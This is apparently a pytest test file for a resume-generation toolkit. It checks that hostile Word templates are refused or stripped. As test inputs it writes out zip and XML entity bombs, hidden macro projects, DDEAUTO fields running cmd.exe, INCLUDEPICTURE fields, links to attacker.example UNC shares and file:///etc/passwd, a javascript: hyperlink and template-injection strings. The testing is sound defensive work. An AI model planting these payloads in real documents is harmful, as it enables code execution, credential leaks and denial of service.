"""Hostile Word templates: bombs, other formats, macros, outside links, fields that run things, entity tricks."""

from __future__ import annotations

import io
import socket
import time
import zipfile

import docx
import pytest
from support.paths import EXAMPLES, ROLE
from support.word_files import (
    JOB_TEMPLATE,
    LETTERHEAD,
    RELS,
    add_to_header,
    edit_member,
    header_xml,
    members,
    paragraph_template,
    rezip,
)

from toolkit.api import render_job_description, render_resume
from toolkit.cli import cli
from toolkit.errors import InputFileError

PICTURE = (
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="914400" cy="914400"/><wp:docPr id="90" name="Outside"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
    '<pic:cNvPr id="90" name="outside.png"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:link="rIdOutside"/></pic:blipFill><pic:spPr/></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
)


def resume(reference, **options):
    return render_resume(EXAMPLES / "profile.yaml", role=ROLE, fmt="docx", docx_template=reference, **options)


def refusal(reference) -> str:
    with pytest.raises(InputFileError) as caught:
        resume(reference)
    return str(caught.value)


def test_a_reference_with_a_huge_part_is_refused_before_it_is_unpacked(tmp_path, runner):
    bomb = rezip(LETTERHEAD, tmp_path / "bomb.docx", add={"word/media/huge.bin": bytes(60_000_000)})
    assert bomb.stat().st_size < 500_000
    output = tmp_path / "out.docx"
    started = time.monotonic()
    result = runner.invoke(
        cli, ["resume", str(EXAMPLES / "profile.yaml"), "--docx-template", str(bomb), "-o", str(output)]
    )
    assert time.monotonic() - started < 20
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "word/media/huge.bin in the DOCX unpacks to 57 MB; jobkit reads at most 20 MB per part" in result.output
    assert not output.exists()


def test_a_reference_that_inflates_a_thousandfold_is_refused(tmp_path):
    dense = rezip(LETTERHEAD, tmp_path / "dense.docx", add={"word/media/dense.bin": bytes(5_000_000)})
    assert "times its packed size (a zip bomb?); jobkit reads parts up to 100 times" in refusal(dense)


@pytest.mark.parametrize(
    "data, expected",
    [
        (b"%PDF-1.7\n...", "not a Word document (.docx): a PDF file"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100),
            "an old-style Word 97-2003 (.doc) or password-protected file",
        ),
        (b"plain text, not a document", "not a Word document (.docx): not a ZIP file"),
        (b"", "Word template is empty (0 bytes)"),
    ],
)
def test_a_reference_that_is_not_a_docx_is_refused_saying_what_it_is(tmp_path, data, expected):
    path = tmp_path / "letterhead.docx"
    path.write_bytes(data)
    assert expected in refusal(path)


def test_a_zip_that_is_not_a_word_document_is_refused(tmp_path):
    path = tmp_path / "notes.docx"
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("notes.txt", "hello")
    assert "not a Word document: the ZIP file has no main document part" in refusal(path)
    sheet = edit_member(
        LETTERHEAD,
        tmp_path / "sheet.docx",
        "[Content_Types].xml",
        lambda text: text.replace("wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml"),
    )
    assert (
        "not a Word document: its main part is application/vnd.openxmlformats-officedocument.spreadsheetml"
        in refusal(sheet)
    )


def test_a_macro_enabled_document_is_refused(tmp_path):
    docm = edit_member(
        LETTERHEAD,
        tmp_path / "letterhead.docm",
        "[Content_Types].xml",
        lambda text: text.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    )
    docm = rezip(docm, tmp_path / "with-macros.docm", add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    assert "a macro-enabled Word file (.docm or .dotm); jobkit takes no file with macros" in refusal(docm)
    # A macro project hidden in a file that claims to be a plain .docx is refused the same way.
    hidden = rezip(LETTERHEAD, tmp_path / "hidden.docx", add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    assert "macro-enabled" in refusal(hidden)


@pytest.mark.parametrize(
    "target", ["http://127.0.0.1:9/logo.png", "file:///etc/passwd", "\\\\attacker.example\\share\\logo.png"]
)
def test_an_outside_picture_in_the_header_is_left_out_never_fetched_or_kept(tmp_path, monkeypatch, target):
    relationship = f'<Relationship Id="rIdOutside" Type="{RELS}/image" Target="{target}" TargetMode="External"/>'
    reference = add_to_header(LETTERHEAD, tmp_path / "outside.docx", PICTURE, relationship)

    def refuse(*args, **kwargs):
        raise AssertionError("a connection was attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    document = resume(reference)
    assert any(f"linked from {target} is left out" in str(warning) for warning in document.warnings)
    for name, data in members(document.content).items():
        assert target.encode() not in data, name
        assert b'TargetMode="External"' not in data or name == "word/_rels/document.xml.rels", name
    header = header_xml(document.content)
    assert "Riverside Health" in header and 'name="Outside"' not in header
    reopened = docx.Document(io.BytesIO(document.content))
    pictures = [rel for rel in reopened.sections[0].header.part.rels.values() if rel.reltype.endswith("/image")]
    assert len(pictures) == 1 and not pictures[0].is_external, "the letterhead's own logo stays"


def test_header_links_keep_their_text_but_only_web_and_mail_links_stay_links(tmp_path):
    links = (
        '<w:hyperlink r:id="rIdWeb"><w:r><w:t>Careers page</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdScript"><w:r><w:t>Click me</w:t></w:r></w:hyperlink>'
    )
    relationships = (
        f'<Relationship Id="rIdWeb" Type="{RELS}/hyperlink" Target="https://riverside.example/careers" '
        'TargetMode="External"/>'
        f'<Relationship Id="rIdScript" Type="{RELS}/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>'
    )
    content = resume(add_to_header(LETTERHEAD, tmp_path / "links.docx", links, relationships)).content
    header = docx.Document(io.BytesIO(content)).sections[0].header
    targets = [rel.target_ref for rel in header.part.rels.values() if rel.reltype.endswith("/hyperlink")]
    assert targets == ["https://riverside.example/careers"]
    text = " ".join(paragraph.text for paragraph in header.paragraphs)
    assert "Click me" in text
    assert all(b"javascript:" not in data for data in members(content).values())


@pytest.mark.parametrize(
    "field",
    [
        "<w:fldSimple w:instr=' INCLUDEPICTURE \"http://127.0.0.1:9/x.png\" \\d '/>",
        "<w:fldSimple w:instr='DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/k calc.exe\"'/>",
        # A complex field whose instruction Word split over two runs.
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText>'
        '</w:r><w:r><w:instrText>TEXT "\\\\\\\\host\\\\share\\\\a.docx" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>cached</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    ],
)
def test_a_header_field_that_fetches_a_file_or_runs_a_program_is_refused(tmp_path, field):
    message = refusal(add_to_header(LETTERHEAD, tmp_path / "field.docx", field))
    assert "word/header1.xml: holds a" in message
    assert any(name in message for name in ("INCLUDEPICTURE field", "DDEAUTO field", "INCLUDETEXT field"))
    assert "Ctrl+Shift+F9" in message


def test_settings_that_link_outside_or_lock_the_document_are_left_out(tmp_path):
    settings = (
        '<w:attachedTemplate r:id="rIdTemplate"/>'
        '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
        "<w:evenAndOddHeaders/>"
    )
    reference = edit_member(
        LETTERHEAD,
        tmp_path / "settings.docx",
        "word/settings.xml",
        lambda text: text.replace("<w:zoom", settings + "<w:zoom", 1),
    )
    relationship = (
        f'<Relationship Id="rIdTemplate" Type="{RELS}/attachedTemplate" '
        'Target="file:///\\\\attacker.example\\templates\\Normal.dotm" TargetMode="External"/>'
    )
    reference = rezip(
        reference,
        tmp_path / "settings-linked.docx",
        add={
            "word/_rels/settings.xml.rels": (
                '<?xml version="1.0" encoding="UTF-8"?><Relationships '
                f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relationship}</Relationships>'
            ).encode()
        },
    )
    parts = members(resume(reference).content)
    settings_xml = parts["word/settings.xml"].decode()
    assert "attachedTemplate" not in settings_xml and "documentProtection" not in settings_xml
    assert "evenAndOddHeaders" in settings_xml, "a layout setting is kept"
    assert all(b"attacker.example" not in data for data in parts.values())


def test_a_reference_declaring_entities_is_refused_without_expanding_them(tmp_path):
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
        + ']><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&i;</w:styles>'
    )
    bomb = rezip(LETTERHEAD, tmp_path / "laughs.docx", replace={"word/styles.xml": laughs.encode()})
    started = time.monotonic()
    message = refusal(bomb)
    assert time.monotonic() - started < 10
    assert "word/styles.xml in the DOCX declares a DOCTYPE, which Word files never do" in message


def test_relationship_targets_outside_the_package_are_ignored(tmp_path):
    relationship = f'<Relationship Id="rIdOutside" Type="{RELS}/image" Target="../../../../etc/passwd"/>'
    picture = PICTURE.replace("r:link=", "r:embed=")
    reference = add_to_header(LETTERHEAD, tmp_path / "escape.docx", picture, relationship)
    content = resume(reference).content
    assert all(b"root:" not in data for data in members(content).values())
    assert 'name="Outside"' not in header_xml(content)


def test_an_output_may_not_replace_the_reference(tmp_path, runner):
    reference = tmp_path / "letterhead.docx"
    reference.write_bytes(LETTERHEAD.read_bytes())
    result = runner.invoke(
        cli, ["resume", str(EXAMPLES / "profile.yaml"), "--docx-template", str(reference), "-o", str(reference)]
    )
    assert result.exit_code == 1 and "is the input file" in result.output
    assert reference.read_bytes() == LETTERHEAD.read_bytes()


def test_a_word_template_linking_an_outside_picture_is_refused(tmp_path):
    relationship = (
        f'<Relationship Id="rIdOutside" Type="{RELS}/image" Target="http://127.0.0.1:9/a.png" TargetMode="External"/>'
    )
    template = add_to_header(JOB_TEMPLATE, tmp_path / "outside.docx", PICTURE, relationship)
    with pytest.raises(
        InputFileError, match=r"word/header1.xml: links to an outside file \(http://127.0.0.1:9/a.png\)"
    ):
        render_job_description(role=ROLE, level="mid", company="X", fmt="docx", word_template=template)


_INJECTED_FIELDS = {
    "a |safe value": '{{ \'</w:t></w:r><w:fldSimple w:instr="INCLUDEPICTURE http://127.0.0.1:9/a.png"/>'
    "<w:r><w:t>' | safe }}",
    "an autoescape block": '{% autoescape false %}{{ \'</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText>DDEAUTO cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
    "</w:r><w:r><w:t>' }}{% endautoescape %}",
}


@pytest.mark.parametrize("where", ["body", "header"])
@pytest.mark.parametrize("how", list(_INJECTED_FIELDS))
def test_a_word_template_cannot_write_a_field_that_runs_things_as_it_is_filled(tmp_path, runner, how, where):
    tag = _INJECTED_FIELDS[how]
    body, header = ("{{ person.name }}", tag) if where == "header" else (tag, "")
    template = paragraph_template(tmp_path / "template.docx", body, header=header)
    target = tmp_path / "resume.docx"
    result = runner.invoke(
        cli, ["resume", str(EXAMPLES / "profile.yaml"), "--word-template", str(template), "-o", str(target)]
    )
    assert result.exit_code == 1, result.output
    assert "once filled: holds a" in result.output and ("INCLUDEPICTURE" in result.output or "DDEAUTO" in result.output)
    assert not target.exists()


@pytest.mark.parametrize(
    "tag", ["{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}", "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}"]
)
def test_a_word_template_nested_or_recursing_without_end_gets_words_not_a_traceback(tmp_path, runner, tag):
    template = paragraph_template(tmp_path / "template.docx", tag)
    result = runner.invoke(
        cli,
        ["resume", str(EXAMPLES / "profile.yaml"), "--word-template", str(template), "-o", str(tmp_path / "r.docx")],
    )
    assert result.exit_code == 1
    assert "template.docx: the template could not be filled: its tags nest too deeply, or a macro" in result.output
    assert "Traceback" not in result.output and "RecursionError" not in result.output
